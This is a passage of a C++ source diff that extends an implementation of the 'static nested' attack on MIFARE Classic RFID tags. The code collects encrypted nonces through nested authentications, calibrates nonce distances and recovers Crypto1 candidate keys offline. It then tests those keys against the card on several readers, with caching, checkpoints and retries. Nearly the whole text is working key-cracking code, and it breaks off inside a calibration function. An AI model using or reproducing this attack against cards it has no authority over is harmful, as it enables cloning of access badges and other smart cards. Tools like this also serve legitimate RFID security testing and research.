@@ -5,13 +5,25 @@
  */
 
 #include <chrono>
+#include <cmath>
 #include <future>
+#include <limits>
+#include <map>
+#include <mutex>
+#include <set>
 #include <thread>
 
 #include <nfcpp/nfc.hpp>
 
+#include "common/candidate_cache.h"
+#include "common/crypto1.h"
+#include "common/event_log.h"
+#include "common/mifare_key_tester.h"
 #include "common/static_nested.h"
+#include "common/static_nested_solver.h"
+#include "common/sweep_checkpoint.h"
 
+#include "bounded_queue.h"
 #include "utility.h"
 
 namespace nfcpp::static_nested {
@@ -20,6 +32,21 @@ using namespace mifare;
 
 namespace {
 
+// The distance of the nonce after depth + 1 nested auths. A retry takes the
+// next less frequent one seen, a static nonce tag would otherwise give the
+// very same capture again.
+std::uint32_t distance_of(
+    const NonceCalibration& calibration,
+    std::size_t             depth,
+    std::size_t             attempt
+) {
+    if (attempt && depth < calibration.alternatives.size()) {
+        auto& others = calibration.alternatives[depth];
+        if (attempt <= others.size()) return others[attempt - 1];
+    }
+    return calibration.distances[depth];
+}
+
 auto collect_data(
     MifareClassicInitiator& mf_initiator,
     const ISO14443ACard&    card,
@@ -28,227 +55,644 @@ auto collect_data(
     std::uint64_t           key,
     std::uint8_t            target_block,
     MifareKey               target_key_type,
-    bool                    force_detect_distance
+    const NonceCalibration& calibration,
+    std::size_t             extra_nonces,
+    bool                    force_detect_distance,
+    std::size_t             attempt
 ) {
-    MifareCrypto1Cipher           cipher;
-    std::array<EncryptedNonce, 2> ret;
+    Crypto1State                cipher{};
+    std::vector<EncryptedNonce> ret(2 + extra_nonces);
+    std::uint32_t               nt_1;
 
-    auto& [nt_a, ks_a] = ret[0];
-    auto& [nt_b, ks_b] = ret[1];
+    // The i-th nonce is captured after i nested auths.
+    auto& dists = calibration.distances;
+    if (dists.size() < ret.size()) {
+        throw std::invalid_argument("Calibration is too shallow.");
+    }
 
-    std::uint32_t nt_1, nt_2, nt_3;
+    for (auto i : std::views::iota(0uz, ret.size())) {
+        auto& [nt, ks, parity] = ret[i];
 
-    mf_initiator.auth(cipher, key_type, card, block, key, false, nt_1);
-    mf_initiator.auth(cipher, key_type, card, block, key, true, nt_2);
-    mf_initiator.auth(cipher, key_type, card, block, key, true, nt_3);
+        std::uint8_t nt_par;
 
-    auto dist1 = nonce_distance(nt_1, nt_2);
-    auto dist2 = nonce_distance(nt_1, nt_3);
+        // Every nonce is one step, a lost tag only costs the current one.
+        auto nt_enc = mf_initiator.retry_on_loss(card, [&] {
+            mf_initiator.reacquire_card(card);
 
-    mf_initiator.select_card(card.uid);
+            mf_initiator.auth(cipher, key_type, card, block, key, false, nt_1);
+            for (auto j = 0uz; j < i; j++) {
+                mf_initiator.auth(cipher, key_type, card, block, key, true);
+            }
 
-    mf_initiator.auth(cipher, key_type, card, block, key, false, nt_1);
+            return mf_initiator.encrypted_nonce(
+                cipher,
+                target_key_type,
+                target_block,
+                nt_par
+            );
+        });
 
-    // @see
-    // https://github.com/RfidResearchGroup/proxmark3/blob/91263b69d36915926e9c4e4fc9d162c3c939fa74/armsrc/mifarecmd.c#L1656
-    if (target_key_type == MifareKey::B && nt_1 == 0x009080A2
-        && !force_detect_distance) {
-        nt_a = prng_successor(nt_1, 161);
-        nt_b = prng_successor(nt_1, 321);
-    } else {
-        nt_a = prng_successor(nt_1, dist1);
-        nt_b = prng_successor(nt_1, dist2);
+        // @see
+        // https://github.com/RfidResearchGroup/proxmark3/blob/91263b69d36915926e9c4e4fc9d162c3c939fa74/armsrc/mifarecmd.c#L1656
+        if (target_key_type == MifareKey::B && nt_1 == 0x009080A2 && i < 2
+            && !force_detect_distance) {
+            nt = prng_successor(nt_1, i == 0 ? 161 : 321);
+        } else {
+            nt = prng_successor(nt_1, distance_of(calibration, i, attempt));
+        }
+
+        ks     = nt_enc ^ nt;
+        parity = nt_par;
     }
 
-    auto nt_enc2 =
-        mf_initiator.encrypted_nonce(cipher, target_key_type, target_block);
+    return ret;
+}
 
-    ks_a = nt_enc2 ^ nt_a;
+// stream_candidates, which takes the candidates from options.candidate_cache
+// if it has them. Otherwise they are collected on their way to sink and added
+// to it, the recovery goes on to the end if sink stops early. A set over
+// options.max_candidates is a bad capture and is not kept.
+void stream_cached_candidates(
+    std::span<const EncryptedNonce, 2> nt_encs,
+    std::uint32_t                      nuid,
+    const StaticNestedOptions&         options,
+    const std::function<bool(std::span<const std::uint64_t>)>& sink
+) {
+    auto cache = options.candidate_cache;
+    if (!cache) {
+        stream_candidates(nt_encs, nuid, options.threads, sink);
+        return;
+    }
 
-    mf_initiator.select_card(card.uid);
+    auto states = cache->find(nt_encs, nuid);
+    if (!states) {
+        std::vector<std::uint64_t> recovered;
+        std::mutex                 recovered_mutex;
+        bool                       stopped{};
+        bool                       too_many{};
+        stream_candidates(
+            nt_encs,
+            nuid,
+            options.threads,
+            [&](std::span<const std::uint64_t> candidates) {
+                std::scoped_lock lock(recovered_mutex);
+                recovered.append_range(candidates);
+                if (options.max_candidates
+                    && recovered.size() > options.max_candidates) {
+                    too_many = true;
+                }
+                if (!stopped && !sink(candidates)) stopped = true;
+                // Nothing left to forward nor to keep.
+                return !(stopped && too_many);
+            }
+        );
+        if (too_many) return;
+        std::ranges::sort(recovered);
+        cache->add(nt_encs, nuid, recovered);
+        return;
+    }
 
-    mf_initiator.auth(cipher, key_type, card, block, key, false, nt_1);
-    mf_initiator.auth(cipher, key_type, card, block, key, true);
+    std::println("Found {} candidate keys in the cache.", states->size());
+    // In chunks, as if they were just recovered.
+    std::span<const std::uint64_t> rest(*states);
+    while (!rest.empty()) {
+        auto size = std::min(rest.size(), 4096uz);
+        if (!sink(rest.first(size))) return;
+        rest = rest.subspan(size);
+    }
+}
 
-    auto nt_enc3 =
-        mf_initiator.encrypted_nonce(cipher, target_key_type, target_block);
+// A candidate key and its place in the queue order.
+struct QueuedKey {
+    std::size_t   index;
+    std::uint64_t key;
+};
 
-    ks_b = nt_enc3 ^ nt_b;
+// Shared by the threads of one candidate sweep, every change bumps revision
+// so that the reporter only wakes up when there is something new to show.
+struct SweepState {
+    std::atomic<std::size_t> tested{};
+    std::atomic<std::size_t> total{};
+    // Only once every candidate is queued, not when the offline phase stops
+    // early.
+    std::atomic<bool>        offline_done{};
+    std::atomic<std::size_t> revision{};
+    // Tested by the run this one resumes, they don't count for the speed.
+    std::size_t              tested_before{};
 
-    return ret;
-}
+    // Held by the producer while it pushes, even when the queue is full, so
+    // that the index of the next key queued follows the queue order.
+    std::mutex  push_mutex;
+    std::size_t queued{};
+
+    // Only kept for options.checkpoint, the candidates in queue order, of
+    // which the first saved ones are in the checkpoint already.
+    std::mutex    progress_mutex;
+    SweepProgress progress;
+    std::size_t   saved{};
+    // Under progress_mutex, how many keys from the start of the queue are
+    // known to be wrong. With several readers, keys tested past that wait in
+    // tested_ahead.
+    std::size_t           tested_prefix{};
+    std::set<std::size_t> tested_ahead;
+    // Keys that a reader dropped out in the middle of.
+    std::vector<QueuedKey> handed_back;
 
-auto crypto1_get_16bits(const MifareCrypto1Cipher& state) {
-    constexpr auto mask = 0x00ff0000;
+    void touch() {
+        revision.fetch_add(1, std::memory_order_release);
+        revision.notify_all();
+    }
 
-    std::uint64_t high = state.even() & mask;
-    std::uint64_t low  = state.odd() & mask;
+    void mark_tested(std::size_t index) {
+        {
+            std::scoped_lock lock(progress_mutex);
+            tested_ahead.insert(index);
+            while (tested_ahead.erase(tested_prefix)) tested_prefix++;
+        }
+        tested.fetch_add(1, std::memory_order_relaxed);
+        touch();
+    }
+};
 
-    return (high << 32) | low;
-}
+// Starts the sweep over in the checkpoint, if checkpoints are on.
+void start_sweep(
+    SweepState&                state,
+    const ISO14443ACard&       card,
+    std::uint8_t               target_block,
+    MifareKey                  target_key_type,
+    const StaticNestedOptions& options
+) {
+    if (!options.checkpoint) return;
 
-auto recovery_sort(const EncryptedNonce& nt_enc, std::uint32_t nuid) {
-    auto states =
-        MifareCrypto1Cipher::recovery32(nt_enc.keystream, nt_enc.nonce ^ nuid);
-    std::ranges::sort(*states, [](const auto& a, const auto& b) {
-        return crypto1_get_16bits(a) > crypto1_get_16bits(b);
-    });
-    return states;
+    std::scoped_lock lock(state.progress_mutex);
+    state.progress.complete = state.offline_done;
+    state.saved             = state.progress.candidates.size();
+    options.checkpoint->update(
+        card,
+        target_block,
+        target_key_type,
+        state.progress
+    );
 }
 
-void rollback_paired_states(
-    std::span<MifareCrypto1Cipher>& states_a,
-    std::span<MifareCrypto1Cipher>& states_b,
-    const EncryptedNonce&           nt_enc_a,
-    const EncryptedNonce&           nt_enc_b,
-    std::uint32_t                   nuid
+// Writes out how far the sweep got, if checkpoints are on. Only the
+// candidates queued since the last save are written.
+void save_sweep(
+    SweepState&                state,
+    const ISO14443ACard&       card,
+    std::uint8_t               target_block,
+    MifareKey                  target_key_type,
+    const StaticNestedOptions& options
 ) {
-    auto read_a = states_a.begin();
-    auto read_b = states_b.begin();
+    if (!options.checkpoint) return;
 
-    auto inplace_a = states_a.begin();
-    auto inplace_b = states_b.begin();
+    // Read before the candidates, which then hold every key if it is set.
+    auto complete = state.offline_done.load();
 
-    auto eq_16b = [](const auto& a, const auto& b) {
-        return crypto1_get_16bits(a) == crypto1_get_16bits(b);
-    };
-    auto ge_16b = [](const auto& a, const auto& b) {
-        return crypto1_get_16bits(a) > crypto1_get_16bits(b);
-    };
-    auto le_16b = [](const auto& a, const auto& b) {
-        return crypto1_get_16bits(a) < crypto1_get_16bits(b);
+    std::vector<std::uint64_t> added;
+    std::size_t                tested;
+    {
+        std::scoped_lock lock(state.progress_mutex);
+        auto&            candidates = state.progress.candidates;
+        added.assign(candidates.begin() + state.saved, candidates.end());
+        state.saved = candidates.size();
+        // A key can be tested before the producer got to record it.
+        tested = std::min(state.tested_prefix, candidates.size());
+    }
+    options.checkpoint->extend(
+        card,
+        target_block,
+        target_key_type,
+        added,
+        tested,
+        complete
+    );
+}
+
+void produce_candidate_keys(
+    std::stop_token                    token,
+    std::stop_source                   worker_stop,
+    util::BoundedQueue<QueuedKey>&     queue,
+    SweepState&                        state,
+    std::atomic<bool>&                 bad_capture,
+    std::span<const EncryptedNonce>    nt_encs,
+    std::uint32_t                      nuid,
+    std::uint8_t                       target_block,
+    const StaticNestedOptions&         options,
+    bool                               retry,
+    std::span<const std::uint64_t>     skipped
+) {
+    auto extra_nonces = nt_encs.subspan(2);
+
+    // The indices (and the checkpoint) follow the queue order. A key is only
+    // recorded once it is queued, so the progress lock is never waited for
+    // with the queue full, the readers and save_sweep need it.
+    auto push = [&](std::uint64_t key) {
+        std::scoped_lock lock(state.push_mutex);
+        if (!queue.push({state.queued, key})) return false;
+        state.queued++;
+        if (options.checkpoint) {
+            std::scoped_lock progress_lock(state.progress_mutex);
+            state.progress.candidates.push_back(key);
+        }
+        return true;
     };
 
+    util::emit_event(
+        options.events,
+        "phase_start",
+        {{"phase", "offline"}, {"block", target_block}}
+    );
 
-    while (read_a < states_a.end() && read_b < states_b.end()) {
-        if (eq_16b(*read_a, *read_b)) {
-            auto cluster_first = *read_a;
-            while (eq_16b(*read_a, cluster_first) && read_a < states_a.end()) {
-                *inplace_a = *read_a;
-                inplace_a->rollback_word(nt_enc_a.nonce ^ nuid, false);
-                inplace_a++;
-                read_a++;
+    std::atomic<std::size_t>   found{};
+    std::vector<std::uint64_t> rejected;
+    std::mutex                 rejected_mutex;
+
+    // Set when a key could not be queued, the set is then incomplete.
+    std::atomic<bool> cut_short{};
+
+    // While a retry is left, no key goes on air before the set is known to be
+    // within options.max_candidates, so a bad capture costs no tests.
+    auto                       hold_back = retry && options.max_candidates;
+    std::vector<std::uint64_t> held;
+    std::mutex                 held_mutex;
+
+    stream_cached_candidates(
+        nt_encs.first<2>(),
+        nuid,
+        options,
+        [&](std::span<const std::uint64_t> candidates) {
+            for (auto candidate : candidates) {
+                auto key = Crypto1State::unpack(candidate).lfsr();
+                auto index = found.fetch_add(1, std::memory_order_relaxed);
+                // Far more than a good capture yields, don't sweep them all.
+                // Every worker past the limit stops here, the first one also
+                // stops the readers.
+                if (retry && options.max_candidates
+                    && index >= options.max_candidates) {
+                    if (!bad_capture.exchange(true)) {
+                        std::println(
+                            "\r\033[2K!!! warning: more than {} candidate "
+                            "keys.",
+                            options.max_candidates
+                        );
+                        worker_stop.request_stop();
+                        queue.close();
+                    }
+                    return false;
+                }
+                // Already tested by the run this one resumes.
+                if (std::ranges::binary_search(skipped, key)) continue;
+                if (!verify_key(key, extra_nonces, nuid)) {
+                    std::scoped_lock lock(rejected_mutex);
+                    rejected.push_back(key);
+                    continue;
+                }
+                if (hold_back) {
+                    std::scoped_lock lock(held_mutex);
+                    held.push_back(key);
+                } else if (!push(key)) {
+                    cut_short = true;
+                    return false;
+                }
+                state.total.fetch_add(1, std::memory_order_relaxed);
             }
-            cluster_first = *read_b;
-            while (eq_16b(*read_b, cluster_first) && read_b < states_b.end()) {
-                *inplace_b = *read_b;
-                inplace_b->rollback_word(nt_enc_b.nonce ^ nuid, false);
-                inplace_b++;
-                read_b++;
+            state.touch();
+            return !token.stop_requested();
+        }
+    );
+
+    if (!token.stop_requested() && !bad_capture) {
+        std::println("\r\033[2KFound {} candidate keys.", found.load());
+        if (found == 0 && retry) {
+            bad_capture = true;
+        } else if (!extra_nonces.empty()) {
+            auto produced = state.total - skipped.size();
+            if (produced == 0 && !rejected.empty() && retry) {
+                std::println(
+                    "!!! warning: no candidate matches the extra nonces."
+                );
+                bad_capture = true;
+            } else if (produced == 0 && !rejected.empty()) {
+                // Out of retries, a mispredicted extra nonce would also
+                // reject the real key.
+                std::println(
+                    "!!! warning: no candidate matches the extra nonces, "
+                    "testing all of them."
+                );
+                for (auto key : rejected) {
+                    if (!push(key)) {
+                        cut_short = true;
+                        break;
+                    }
+                    state.total.fetch_add(1, std::memory_order_relaxed);
+                }
+            } else {
+                std::println(
+                    "Eliminated {} candidate keys offline using {} extra "
+                    "nonces.",
+                    rejected.size(),
+                    extra_nonces.size()
+                );
             }
-        } else {
-            while (read_a < states_a.end() && ge_16b(*read_a, *read_b))
-                read_a++;
-            while (read_b < states_b.end() && le_16b(*read_a, *read_b))
-                read_b++;
         }
     }
 
-    states_a = states_a.first(inplace_a - states_a.begin());
-    states_b = states_b.first(inplace_b - states_b.begin());
-}
+    // Within the limit, the keys held back go on air now.
+    if (!token.stop_requested() && !bad_capture) {
+        for (auto key : held) {
+            if (!push(key)) {
+                cut_short = true;
+                break;
+            }
+        }
+    }
 
-auto find_intersection(
-    std::span<MifareCrypto1Cipher> states_a,
-    std::span<MifareCrypto1Cipher> states_b
-) {
-    auto proj = [](const auto& state) {
-        return (static_cast<std::uint64_t>(state.even()) << 32) | state.odd();
-    };
-    std::ranges::sort(states_a, {}, proj);
-    std::ranges::sort(states_b, {}, proj);
-
-    std::vector<MifareCrypto1Cipher> ret;
-    std::ranges::set_intersection(
-        states_a,
-        states_b,
-        std::back_inserter(ret),
-        {},
-        proj,
-        proj
+    util::emit_event(
+        options.events,
+        "candidates",
+        {{"block", target_block},
+         {"count", found.load()},
+         {"verified", state.total.load()},
+         {"bad_capture", bad_capture.load()}}
+    );
+    util::emit_event(
+        options.events,
+        "phase_end",
+        {{"phase", "offline"}, {"block", target_block}}
     );
 
-    return ret;
+    // A sweep resumed from here takes the candidates as all there are.
+    if (!cut_short && !bad_capture && !token.stop_requested()) {
+        state.offline_done = true;
+    }
+    state.touch();
+    queue.close();
+}
+
+// The offline phase of a resumed sweep that already has every candidate, so
+// offline_done is set from the start.
+void produce_resumed_keys(
+    std::stop_token                token,
+    util::BoundedQueue<QueuedKey>& queue,
+    SweepState&                    state,
+    std::span<const std::uint64_t> candidates
+) {
+    for (auto key : candidates) {
+        if (token.stop_requested() || !queue.push({state.queued++, key})) {
+            break;
+        }
+    }
+    state.touch();
+    queue.close();
 }
 
 std::optional<std::uint64_t> test_candidate_keys_worker(
-    std::stop_token                      token,
-    std::atomic<std::size_t>&            progress,
-    MifareClassicInitiator&              mf_initiator,
-    const ISO14443ACard&                 card,
-    std::uint8_t                         target_block,
-    MifareKey                            target_key_type,
-    std::span<const MifareCrypto1Cipher> candidates
+    std::stop_token                token,
+    SweepState&                    state,
+    MifareClassicInitiator&        mf_initiator,
+    const ISO14443ACard&           card,
+    std::uint8_t                   target_block,
+    MifareKey                      target_key_type,
+    util::BoundedQueue<QueuedKey>& candidates
 ) {
-    MifareCrypto1Cipher cipher;
-    for (auto candidate : candidates) {
-        if (token.stop_requested()) break;
+    Crypto1State    cipher{};
+    MifareKeyTester tester(mf_initiator, card);
+    while (!token.stop_requested()) {
+        auto candidate = candidates.pop();
+        if (!candidate) break;
 
-        auto key = candidate.get_lfsr();
-        if (mf_initiator
-                .test_key(cipher, target_key_type, card, target_block, key)) {
-            return key;
+        try {
+            if (tester.test_key(
+                    cipher,
+                    target_key_type,
+                    target_block,
+                    candidate->key
+                )) {
+                return candidate->key;
+            }
+        } catch (...) {
+            std::scoped_lock lock(state.progress_mutex);
+            state.handed_back.push_back(*candidate);
+            throw;
         }
 
-        progress.fetch_add(1, std::memory_order_relaxed);
+        state.mark_tested(candidate->index);
     }
     return std::nullopt;
 }
 
+// Tests the candidates on the main reader and on every helper at once, one
+// thread each. They all pull from the same queue, so a faster reader simply
+// takes more keys, and the first key found stops the others. A reader that
+// fails drops out, its error only gets through if none is left.
+std::optional<std::uint64_t> sweep_readers(
+    std::stop_token                token,
+    SweepState&                    state,
+    MifareClassicInitiator&        mf_initiator,
+    const ISO14443ACard&           card,
+    std::uint8_t                   target_block,
+    MifareKey                      target_key_type,
+    util::BoundedQueue<QueuedKey>& candidates,
+    const StaticNestedOptions&     options
+) {
+    std::vector<CandidateReader> readers{{&mf_initiator, card}};
+    readers.append_range(options.helpers);
+
+    std::stop_source   stop;
+    std::stop_callback forward(token, [&] { stop.request_stop(); });
+
+    std::mutex                   mutex;
+    std::optional<std::uint64_t> ret;
+    std::exception_ptr           error;
+    std::optional<std::size_t>   survivor;
+
+    auto sweep = [&](std::size_t i, util::BoundedQueue<QueuedKey>& queue) {
+        // Otherwise the error is simply passed on.
+        auto alone = readers.size() == 1;
+        try {
+            auto key = test_candidate_keys_worker(
+                stop.get_token(),
+                state,
+                *readers[i].initiator,
+                readers[i].card,
+                target_block,
+                target_key_type,
+                queue
+            );
+            std::scoped_lock lock(mutex);
+            survivor = i;
+            if (key && !ret) {
+                ret = key;
+                stop.request_stop();
+                queue.close();
+            }
+        } catch (const std::exception& e) {
+            std::scoped_lock lock(mutex);
+            error = std::current_exception();
+            if (alone) return;
+            std::println(
+                "\r\033[2K!!! warning: reader {} dropped out: {}",
+                i,
+                e.what()
+            );
+            util::emit_event(
+                options.events,
+                "reader_lost",
+                {{"reader", i}, {"error", e.what()}}
+            );
+        }
+    };
+
+    if (readers.size() == 1) {
+        sweep(0, candidates);
+    } else {
+        std::vector<std::jthread> threads;
+        for (auto i : std::views::iota(0uz, readers.size())) {
+            threads.emplace_back(sweep, i, std::ref(candidates));
+        }
+    }
+
+    // The keys left behind by the readers that dropped out, on one that is
+    // still there.
+    if (!ret && survivor && !stop.stop_requested()
+        && !state.handed_back.empty()) {
+        util::BoundedQueue<QueuedKey> handed_back(state.handed_back.size());
+        for (auto candidate : std::exchange(state.handed_back, {})) {
+            handed_back.push(candidate);
+        }
+        handed_back.close();
+        sweep(*std::exchange(survivor, std::nullopt), handed_back);
+    }
+
+    if (!ret && !survivor && error) std::rethrow_exception(error);
+    return ret;
+}
+
 void test_candidate_keys_reporter(
-    std::stop_token           token,
-    std::atomic<std::size_t>& progress,
-    std::size_t               total_candidates
+    std::stop_token            token,
+    SweepState&                state,
+    std::uint8_t               target_block,
+    const StaticNestedOptions& options
 ) {
     using namespace std::chrono;
 
+    std::stop_callback wake(token, [&] { state.touch(); });
+
     auto start_time = steady_clock::now();
+    auto last_event = start_time;
 
     while (!token.stop_requested()) {
-        auto current_progress = progress.load(std::memory_order_relaxed);
-        auto current_time     = steady_clock::now();
-        auto past_time    = duration_cast<seconds>(current_time - start_time);
-        auto reader_speed = static_cast<double>(current_progress)
-                          / static_cast<double>(past_time.count());
-        auto estimated_time_s = seconds(
-            static_cast<std::uint32_t>(
-                (total_candidates - current_progress) / reader_speed
-            )
-        );
+        auto revision = state.revision.load(std::memory_order_acquire);
+        auto tested   = state.tested.load(std::memory_order_relaxed);
+        auto total    = state.total.load(std::memory_order_relaxed);
+        auto now      = steady_clock::now();
+        auto elapsed  = duration<double>(now - start_time).count();
+        auto run      = tested - state.tested_before;
 
-        std::print(
-            "\r\r\033[2KTesting keys... ({}/{}) {:.2f} keys/s, estimated time: "
-            "{}. (worst-case scenario)",
-            current_progress,
-            total_candidates,
-            reader_speed,
-            util::format_duration(seconds(estimated_time_s))
-        );
+        // No speed, and so no ETA, before the first key of this run is tested.
+        auto speed = run && elapsed > 0 ? run / elapsed : 0.0;
+        auto eta   = std::numeric_limits<double>::quiet_NaN();
+        if (state.offline_done && speed > 0) {
+            eta = (total - tested) / speed;
+        }
+
+        if (!state.offline_done) {
+            // The total is still growing, so there is no ETA yet.
+            std::print(
+                "\r\r\033[2KTesting keys... ({}/{}+) {:.2f} keys/s, "
+                "recovering more candidates...",
+                tested,
+                total,
+                speed
+            );
+        } else {
+            std::print(
+                "\r\r\033[2KTesting keys... ({}/{}) {:.2f} keys/s, estimated "
+                "time: {}. (worst-case scenario)",
+                tested,
+                total,
+                speed,
+                std::isnan(eta) ? "unknown"
+                                : util::format_duration(seconds(
+                                      static_cast<std::int64_t>(eta)
+                                  ))
+            );
+        }
         std::fflush(stdout);
 
-        std::this_thread::sleep_for(50ms);
+        if (now - last_event >= 1s) {
+            last_event = now;
+            util::emit_event(
+                options.events,
+                "progress",
+                {{"block", target_block},
+                 {"tested", tested},
+                 {"total", total},
+                 {"offline_done", state.offline_done.load()},
+                 {"keys_per_s", speed},
+                 {"eta_s", eta}}
+            );
+        }
+
+        // Redraw when something changed, but not more than every 50 ms.
+        std::this_thread::sleep_until(now + 50ms);
+        state.revision.wait(revision, std::memory_order_acquire);
     }
 }
 
-} // namespace
+// Cheap checks that catch a bad capture before the offline phase.
+bool check_capture(std::span<const EncryptedNonce> nt_encs) {
+    auto ret = true;
+    for (auto i : std::views::iota(0uz, nt_encs.size())) {
+        if (nt_encs[i].parity && !check_nonce_parity(nt_encs[i])) {
+            std::println(
+                "!!! warning: parity of NtEnc_{} mismatch, the nonce distance "
+                "may be wrong.",
+                i
+            );
+            ret = false;
+        }
+    }
+    // Two different nonces never share the keystream under the same key.
+    if (nt_encs[0].keystream == nt_encs[1].keystream) {
+        std::println("!!! warning: KeyStream_0 and KeyStream_1 are equal.");
+        ret = false;
+    }
+    return ret;
+}
 
-StaticNestedResult execute(
-    MifareClassicInitiator& mf_initiator,
-    const ISO14443ACard&    card,
-    std::uint8_t            block,
-    MifareKey               key_type,
-    std::uint64_t           key,
-    std::uint8_t            target_block,
-    MifareKey               target_key_type,
-    bool                    force_detect_distance
+// Selects the tag and collects the nonces of one attempt.
+std::vector<EncryptedNonce> capture_once(
+    MifareClassicInitiator&    mf_initiator,
+    const ISO14443ACard&       card,
+    std::uint8_t               block,
+    MifareKey                  key_type,
+    std::uint64_t              key,
+    std::uint8_t               target_block,
+    MifareKey                  target_key_type,
+    const NonceCalibration&    calibration,
+    const StaticNestedOptions& options,
+    std::size_t                attempt
 ) {
-    using namespace std::chrono;
-
-    if (!mf_initiator.select_card(card.uid)) {
-        throw std::runtime_error("Tag moved out.");
+    if (attempt) {
+        std::println(
+            "\r\033[2KBad capture, collecting nonces again... ({}/{})",
+            attempt,
+            options.max_retries
+        );
     }
 
-    auto nt_encs = collect_data(
+    mf_initiator.reacquire_card(card);
+
+    util::emit_event(
+        options.events,
+        "phase_start",
+        {{"phase", "capture"}, {"block", target_block}, {"attempt", attempt}}
+    );
+
+    // A retry no longer trusts the distances assumed for 0x009080A2.
+    auto ret = collect_data(
         mf_initiator,
         card,
         block,
@@ -256,81 +700,490 @@ StaticNestedResult execute(
         key,
         target_block,
         target_key_type,
-        force_detect_distance
+        calibration,
+        options.extra_nonces,
+        options.force_detect_distance || attempt,
+        attempt
     );
 
     // TODO: Libc++ does not yet support C++23 std::views::enumerate
-    for (auto i : std::views::iota(0uz, nt_encs.size())) {
+    for (auto i : std::views::iota(0uz, ret.size())) {
         std::println(
             "NtEnc_{0} = {1:08X} KeyStream_{0} = {2:08X}",
             i,
-            nt_encs[i].nonce,
-            nt_encs[i].keystream
+            ret[i].nonce,
+            ret[i].keystream
         );
     }
 
-    auto future_states_a =
-        std::async(std::launch::async, recovery_sort, nt_encs[0], card.nuid);
-    auto future_states_b =
-        std::async(std::launch::async, recovery_sort, nt_encs[1], card.nuid);
-    auto recovered_states_a = future_states_a.get();
-    auto recovered_states_b = future_states_b.get();
-
-    auto rolled_back_states_a = *recovered_states_a;
-    auto rolled_back_states_b = *recovered_states_b;
-    rollback_paired_states(
-        rolled_back_states_a,
-        rolled_back_states_b,
-        nt_encs[0],
-        nt_encs[1],
-        card.nuid
+    util::emit_event(
+        options.events,
+        "phase_end",
+        {{"phase", "capture"}, {"block", target_block}, {"attempt", attempt}}
     );
 
-    auto candidate_states =
-        find_intersection(rolled_back_states_a, rolled_back_states_b);
-    std::println("Found {} candidate keys.", candidate_states.size());
+    return ret;
+}
 
-    std::atomic<std::size_t> progress{};
+// Returns std::nullopt without a key, bad_capture tells if the offline result
+// was rejected (only when retry is allowed). Picks up resumed if given, which
+// must have been made from nt_encs.
+std::optional<std::uint64_t> crack(
+    MifareClassicInitiator&         mf_initiator,
+    const ISO14443ACard&            card,
+    std::uint8_t                    target_block,
+    MifareKey                       target_key_type,
+    std::span<const EncryptedNonce> nt_encs,
+    const StaticNestedOptions&      options,
+    bool                            retry,
+    std::atomic<bool>&              bad_capture,
+    std::size_t&                    tested,
+    const SweepProgress*            resumed
+) {
+    using namespace std::chrono;
 
-    std::packaged_task worker_task(test_candidate_keys_worker);
-    auto               worker_future = worker_task.get_future();
+    // Candidates are tested as soon as they are joined, the reader does not
+    // have to wait for the whole offline phase.
+    util::BoundedQueue<QueuedKey> candidate_queue(4096);
+    SweepState                    state;
 
-    auto start_time = steady_clock::now();
+    // Keys already tested are neither queued nor recovered again.
+    std::vector<std::uint64_t> skipped;
+    if (resumed) {
+        state.progress      = *resumed;
+        state.tested_before = resumed->tested;
+        state.tested        = resumed->tested;
+        state.queued        = resumed->tested;
+        state.tested_prefix = resumed->tested;
+        if (resumed->complete) {
+            state.total        = resumed->candidates.size();
+            state.offline_done = true;
+        } else {
+            state.progress.candidates.resize(resumed->tested);
+            state.total = resumed->tested;
+            skipped     = state.progress.candidates;
+            std::ranges::sort(skipped);
+        }
+    } else {
+        state.progress.nt_encs = {nt_encs.begin(), nt_encs.end()};
+    }
+    start_sweep(state, card, target_block, target_key_type, options);
+
+    util::emit_event(
+        options.events,
+        "phase_start",
+        {{"phase", "online"}, {"block", target_block}}
+    );
+
+    std::packaged_task worker_task(sweep_readers);
+    auto               worker_future = worker_task.get_future();
 
     std::jthread worker(
         std::move(worker_task),
-        std::ref(progress),
+        std::ref(state),
         std::ref(mf_initiator),
         std::cref(card),
         target_block,
         target_key_type,
-        candidate_states
+        std::ref(candidate_queue),
+        std::cref(options)
     );
 
+    std::jthread producer;
+    if (resumed && resumed->complete) {
+        producer = std::jthread(
+            produce_resumed_keys,
+            std::ref(candidate_queue),
+            std::ref(state),
+            std::span(resumed->candidates).subspan(resumed->tested)
+        );
+    } else {
+        producer = std::jthread(
+            produce_candidate_keys,
+            worker.get_stop_source(),
+            std::ref(candidate_queue),
+            std::ref(state),
+            std::ref(bad_capture),
+            nt_encs,
+            card.nuid,
+            target_block,
+            std::cref(options),
+            retry,
+            std::span<const std::uint64_t>(skipped)
+        );
+    }
+
     std::jthread reporter(
         test_candidate_keys_reporter,
-        std::ref(progress),
-        candidate_states.size()
+        std::ref(state),
+        target_block,
+        std::cref(options)
     );
 
-    while (true) {
-        if (worker_future.wait_for(0s) == std::future_status::ready) {
-            reporter.request_stop();
-            break;
+    // The worker ends with the key, once the candidates run out, or when the
+    // producer rejects the capture. Meanwhile the checkpoint is kept fresh.
+    while (worker_future.wait_for(1s) != std::future_status::ready) {
+        save_sweep(state, card, target_block, target_key_type, options);
+    }
+    reporter.request_stop();
+    producer.request_stop();
+    candidate_queue.close();
+
+    tested += state.tested;
+
+    std::optional<std::uint64_t> ret;
+    try {
+        ret = worker_future.get();
+    } catch (...) {
+        // E.g. the tag is gone, the next run goes on from here.
+        save_sweep(state, card, target_block, target_key_type, options);
+        throw;
+    }
+    // Nothing left to resume, a bad capture starts over with new nonces.
+    if (options.checkpoint) {
+        options.checkpoint->erase(card, target_block, target_key_type);
+    }
+    util::emit_event(
+        options.events,
+        "phase_end",
+        {{"phase", "online"},
+         {"block", target_block},
+         {"tested", state.tested.load()},
+         {"success", ret.has_value()}}
+    );
+    return ret;
+}
+
+} // namespace
+
+NonceCalibration calibrate(
+    MifareClassicInitiator& mf_initiator,
+    const ISO14443ACard&    card,
+    std::uint8_t            block,
+    MifareKey               key_type,
+    std::uint64_t           key,
+    std::size_t             depth,
+    std::size_t             samples
+) {
+    Crypto1State cipher{};
+
+    // Distance -> count, for every depth.
+    std::vector<std::map<std::uint32_t, std::size_t>> histograms(depth);
+    std::size_t                                       valid{};
+
+    for (auto i = 0uz; i < samples; i++) {
+        mf_initiator.reacquire_card(card);
+
+        std::uint32_t              nt_1, nt_n;
+        std::vector<std::uint32_t> dists;
+        try {
+            auto auth = [&](bool nested, std::uint32_t& nt) {
+                return mf_initiator
+                    .auth(cipher, key_type, card, block, key, nested, nt);
+            };
+            if (!auth(false, nt_1)) continue;
